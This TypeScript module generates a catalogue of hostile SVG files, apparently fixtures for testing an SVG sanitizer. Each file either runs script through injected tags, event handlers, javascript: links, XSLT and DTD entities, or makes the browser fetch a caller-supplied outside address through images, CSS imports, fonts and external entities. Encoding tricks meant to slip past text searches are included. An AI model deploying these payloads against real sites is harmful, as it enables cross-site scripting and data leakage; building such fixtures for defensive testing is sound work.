/**
 * Drawings that run a script or contact another site when a browser opens them. `OUT` stands for the address
 * of that site, `RUN` for a script that contacts it.
 */

const head = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const more = `${head} xmlns:s="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"`;
const big = 'width="300" height="300"';

export function drawing(inner: string, attributes = '', before = ''): string {
  return `${before}<svg ${more} ${big} ${attributes}>${inner}<rect width="9" height="9"/></svg>`;
}

const style = (css: string): string => drawing(`<style>${css}</style><text class="a" y="20">Tea</text>`);
const page = "<script>fetch('OUT')</script>";
const xsl = [
  '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">',
  `<html xmlns="http://www.w3.org/1999/xhtml">${page}</html></xsl:template></xsl:stylesheet>`,
].join('');

const RUNNING: Readonly<Record<string, string>> = {
  script: drawing('<script>RUN</script>'),
  'script with a prefix': drawing('<s:script>RUN</s:script>'),
  'script in CDATA': drawing('<script><![CDATA[RUN]]></script>'),
  'script from elsewhere': drawing('<script href="OUT"/><script xlink:href="OUT"/>'),
  'script as data': drawing('<script href="data:text/javascript,RUN"/>'),
  'script behind a drawing program’s element': drawing('<i:a xmlns:i="urn:i"><s:script>RUN</s:script></i:a>'),
  'script in metadata, titles and styles': drawing(
    '<metadata><script>RUN</script></metadata><title><script>RUN</script></title><style><script>RUN</script></style>',
  ),
  'script of XHTML': drawing('<h:script>RUN</h:script>'),
  'script of XHTML without a prefix': drawing('<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>'),
  'script below a root with a prefix': `<s:svg ${more}><s:script>RUN</s:script></s:svg>`,
  'frame with its page in an attribute': drawing(`<h:iframe srcdoc="${page.replaceAll('<', '&lt;')}"/>`),
  'frame with an address': drawing('<h:iframe src="javascript:RUN"/><h:iframe src="OUT"/>'),
  refresh: drawing('<h:meta http-equiv="refresh" content="0;url=OUT"/>'),
  'object and embed': drawing('<h:object data="OUT"/><h:embed src="OUT"/>'),
  'picture of XHTML': drawing('<h:img src="x" onerror="RUN"/><h:img src="OUT"/>'),
  'style of XHTML': drawing('<h:link rel="stylesheet" href="OUT"/><h:style>@import "OUT";</h:style>'),
  base: drawing('<h:base href="OUT/"/><image href="a.png" width="9" height="9"/>'),
  'form that is focused': drawing('<h:input onfocus="RUN" autofocus=""/>'),
  'video and audio': drawing('<h:video src="OUT" onerror="RUN"/><h:audio src="OUT" autoplay=""/>'),
  'foreign object': drawing(
    `<foreignObject ${big}><h:body><h:script>RUN</h:script></h:body></foreignObject>`,
  ),
  'foreign object in a switch': drawing(
    `<switch><foreignObject ${big}><h:iframe src="OUT"/></foreignObject></switch>`,
  ),
  'event of the document': drawing('', 'onload="RUN"'),
  'event of an element': drawing(
    `<rect ${big} onclick="RUN" onmousemove="RUN" onfocusin="RUN" tabindex="1"/>`,
  ),
  'event of an animation': drawing(
    '<animate attributeName="x" from="0" to="1" dur="0.01s" onbegin="RUN" onend="RUN" onrepeat="RUN"/>',
  ),
  'event of a style': drawing('<style onload="RUN">a{}</style>'),
  'event of a picture': drawing('<image href="missing.png" onerror="RUN" width="1" height="1"/>'),
  'event that an entity hides': drawing('', 'onload="&#32;RUN"'),
  'event by a default of the DTD': drawing('', '', '<!DOCTYPE svg [<!ATTLIST svg onload CDATA "RUN">]>'),
  'script in an entity': drawing('&a;', '', '<!DOCTYPE svg [<!ENTITY a "<script>RUN</script>">]>'),
  'script in an entity of entities': drawing(
    '&b;',
    '',
    '<!DOCTYPE svg [<!ENTITY a "&#60;script&#62;RUN&#60;/script&#62;"><!ENTITY b "&a;">]>',
  ),
  transformation: drawing(
    '',
    '',
    `<?xml-stylesheet type="text/xsl" href="data:text/xml,${encodeURIComponent(xsl)}"?>`,
  ),
  'transformation in the file': drawing(
    `<xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><h:html>${page.replaceAll('script>', 'h:script>')}</h:html></xsl:template></xsl:stylesheet>`,
    '',
    '<?xml-stylesheet type="text/xsl" href="#x"?>',
  ),
  'link that runs': drawing(`<a href="javascript:RUN"><rect ${big}/></a>`),
  'link that runs, the old way': drawing(`<a xlink:href="javascript:RUN"><rect ${big}/></a>`),
  'link that runs, with an entity': drawing(`<a href="java&#115;cript:RUN"><rect ${big}/></a>`),
  'link that runs, with spaces': drawing(`<a href=" &#9;java&#10;scr&#13;ipt&#x3A;RUN"><rect ${big}/></a>`),
  'link with another prefix': drawing(
    `<a xmlns:q="http://www.w3.org/1999/xlink" q:href="javascript:RUN"><rect ${big}/></a>`,
  ),
  'link that an animation makes': drawing(
    `<a><animate attributeName="href" values="javascript:RUN"/><rect ${big}/></a>`,
  ),
  'link that an animation makes, the old way': drawing(
    `<a id="l"><rect ${big}/></a><set href="#l" attributeName="xlink:href" to="javascript:RUN"/>`,
  ),
  'event that an animation sets': drawing(`<rect ${big}><set attributeName="onclick" to="RUN"/></rect>`),
  'base of addresses': drawing(`<a href="#a"><rect ${big}/></a>`, 'xml:base="javascript:RUN"'),
  'handler of SVG Tiny': drawing(
    '<handler type="text/javascript" xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler>',
  ),
  'listener of XML Events': drawing(
    '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="data:text/javascript,RUN"/>',
    'xmlns:e="http://www.w3.org/2001/xml-events" e:event="load"',
  ),
  'page instead of a drawing': `<html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`,
  'binding and behaviour': style('.a{-moz-binding:url(OUT#a);behavior:url(#default#a);x:expression(RUN)}'),
  'use of a drawing as data': drawing(
    `<use href="data:image/svg+xml,${encodeURIComponent(drawing('<script>RUN</script>', 'id="x"'))}#x"/>`,
  ),
};

const ASKING: Readonly<Record<string, string>> = {
  picture: drawing(`<image href="OUT" ${big}/>`),
  'picture, the old way': drawing(`<image xlink:href="OUT" ${big}/>`),
  'picture that is a drawing': drawing(
    `<image href="data:image/svg+xml,${encodeURIComponent(drawing('<image href="OUT" width="9" height="9"/>'))}" ${big}/>`,
  ),
  'picture that an animation sets': drawing(
    `<image ${big}><set attributeName="href" to="OUT"/><animate attributeName="xlink:href" values="OUT"/></image>`,
  ),
  'picture of a filter': drawing(
    `<filter id="f"><feImage href="OUT"/><feImage xlink:href="OUT"/></filter><rect ${big} filter="url(#f)"/>`,
  ),
  'use of another file': drawing('<use href="OUT#a"/><use xlink:href="OUT#a"/>'),
  'gradient, pattern and path of another file': drawing(
    `<linearGradient id="g" href="OUT#a"/><pattern id="p" href="OUT#a"/><text><textPath href="OUT#a">Tea</textPath></text><rect ${big} fill="url(#g)"/>`,
  ),
  'style sheet': drawing('', '', '<?xml-stylesheet href="OUT"?>'),
  'style sheet, in capitals and behind comments': drawing(
    '',
    '',
    '<!-- a --><?xml-stylesheet href="OUT" type="text/css"?>',
  ),
  import: style('@import "OUT";'),
  'import by url': style('@import url(OUT) screen;'),
  'import in CDATA': style('<![CDATA[@import "OUT";]]>'),
  'import with an escape': style('@\\69mport "OUT"; @\\000069 mport "OUT";'),
  'import behind a comment': style('/* a */@import/**/"OUT";'),
  'import behind a faulty rule': style('@charset "utf-8"; @layer a; @import url("OUT") layer(b);'),
  'import with entities': style('&#64;imp&#111;rt &quot;OUT&quot;;'),
  'import in two pieces': style('@imp<!-- -->ort "OUT";'),
  'import in a style of no namespace': drawing('<s:style>@import "OUT";</s:style>'),
  'url of a background': drawing('', 'style="background:url(OUT)"'),
  'url with an escape': style('.a{fill:\\75rl(OUT)} svg{background:\\75\\72\\6c(OUT)}'),
  'url with a comment': style('svg{background:url(/**/OUT)} svg{background:url( "OUT" )}'),
  'url in capitals': style('svg{background:URL(OUT)}'),
  'url in nested rules': style('@media all{svg{color:red;&{background:url(OUT)}}}'),
  'url behind an unclosed string': style('.a{font-family:"x\n} svg{background:url(OUT)}'),
  'url behind a bracket in a bracket': style('.a{x:(})} svg{background:url(OUT)}'),
  'url behind a rule that is no rule': style('} .b{} ]{} svg{background:url(OUT)}'),
  'url in a variable': style(':root{--a:url(OUT)} svg{background:var(--a)}'),
  'url of a registered property': style(
    '@property --a{syntax:"*";inherits:true;initial-value:url(OUT)} svg{background:var(--a)}',
  ),
  'set of pictures': style('svg{background:image-set("OUT" 1x);background:-webkit-image-set(url(OUT) 1x)}'),
  'cross-fade and image': style(
    'svg{background:cross-fade(url(OUT),url(OUT),50%)} svg{background:image("OUT")}',
  ),
  'src()': style('svg{background:src("OUT")}'),
  font: style('@font-face{font-family:a;src:url(OUT)} .a{font-family:a}'),
  'font with two sources': style('@font-face{font-family:a;src:local(none),url("OUT")} .a{font-family:a}'),
  'content, cursor and list': style(
    '.a::before{content:url(OUT)} svg{cursor:url(OUT),auto;list-style:url(OUT)} svg{border-image:url(OUT)}',
  ),
  'attributes of looks': drawing(
    `<rect ${big} fill="url(OUT#a)" filter="url(OUT#b)" mask="url('OUT#c')" clip-path="url(&quot;OUT#d&quot;)" marker-start="url(OUT#e)" cursor="url(OUT),auto"/>`,
  ),
  'attribute with an escape': drawing(`<rect ${big} filter="\\75 rl(OUT#a)" mask="u\\72l(OUT#a)"/>`),
  'attribute that an animation sets': drawing(
    `<rect ${big}><set attributeName="filter" to="url(OUT#a)"/><animate attributeName="mask" values="none;url(OUT#a)" dur="1s"/></rect>`,
  ),
  'style that an animation sets': drawing(
    `<rect ${big}><set attributeName="style" to="mask:url(OUT#a)"/><set attributeName="class" to="OUT"/></rect>`,
  ),
  'base of addresses': drawing(
    '<g xml:base="OUT/"><use href="#a"/><image href="#b" width="9" height="9"/></g>',
  ),
  'entity from elsewhere': drawing('&a;', '', '<!DOCTYPE svg [<!ENTITY a SYSTEM "OUT">]>'),
  'entity of parameters': drawing('', '', '<!DOCTYPE svg [<!ENTITY % a SYSTEM "OUT"> %a;]>'),
  'DTD from elsewhere': drawing('', '', '<!DOCTYPE svg SYSTEM "OUT">'),
  inclusion: drawing('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="OUT"/>'),
  'old elements': drawing(
    '<tref xlink:href="OUT#a"/><cursor xlink:href="OUT"/><color-profile xlink:href="OUT"/><font-face><font-face-src><font-face-uri xlink:href="OUT"/></font-face-src></font-face><discard href="OUT"/><altGlyph xlink:href="OUT#a"/>',
  ),
  'schema of the file': drawing(
    '',
    'xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:schemaLocation="http://www.w3.org/2000/svg OUT"',
  ),
  'ping and frames of a link': drawing(`<a href="#a" ping="OUT" target="_blank"><rect ${big}/></a>`),
};

const utf16 = (text: string, swap: boolean): Buffer => {
  const bytes = Buffer.from(`\uFEFF${text}`, 'utf16le');
  return swap ? bytes.swap16() : bytes;
};
const evil = drawing('<script>RUN</script>');
const encoded = (name: string): string => `<?xml version="1.0" encoding="${name}"?>`;

/** In other encodings, which hide the letters from a search. */
const ENCODED: Readonly<Record<string, (fill: (text: string) => string) => Buffer>> = {
  'UTF-16, little end first': (fill) => utf16(fill(evil), false),
  'UTF-16, big end first': (fill) => utf16(fill(evil), true),
  'UTF-16 without a mark': (fill) => Buffer.from(fill(encoded('utf-16') + evil), 'utf16le'),
  'ISO-2022-JP': (fill) =>
    Buffer.from(fill(encoded('ISO-2022-JP') + evil.replaceAll('script', 's\u001B(Bcript')), 'latin1'),
  'windows-1252': (fill) => Buffer.from(fill(`${encoded('windows-1252')}<!-- é -->${evil}`), 'latin1'),
  'UTF-8 that is none': (fill) => Buffer.concat([Buffer.from(fill(evil)), Buffer.from([0xc0, 0xbc, 0xff])]),
  'UTF-8 with a NUL': (fill) => Buffer.from(fill(drawing('<scr\0ipt>RUN</scr\0ipt>'))),
};

/** @param out address of the other site */
export function attacksOn(out: string): [name: string, bytes: Buffer][] {
  const fill = (text: string): string => {
    return text.replaceAll('RUN', `fetch('${out}')`).replaceAll('OUT', out);
  };
  return [
    ...Object.entries(RUNNING).map(([name, text]): [string, Buffer] => [name, Buffer.from(fill(text))]),
    ...Object.entries(ASKING).map(([name, text]): [string, Buffer] => [
      `request: ${name}`,
      Buffer.from(fill(text)),
    ]),
    ...Object.entries(ENCODED).map(([name, make]): [string, Buffer] => [`encoding: ${name}`, make(fill)]),
  ];
}
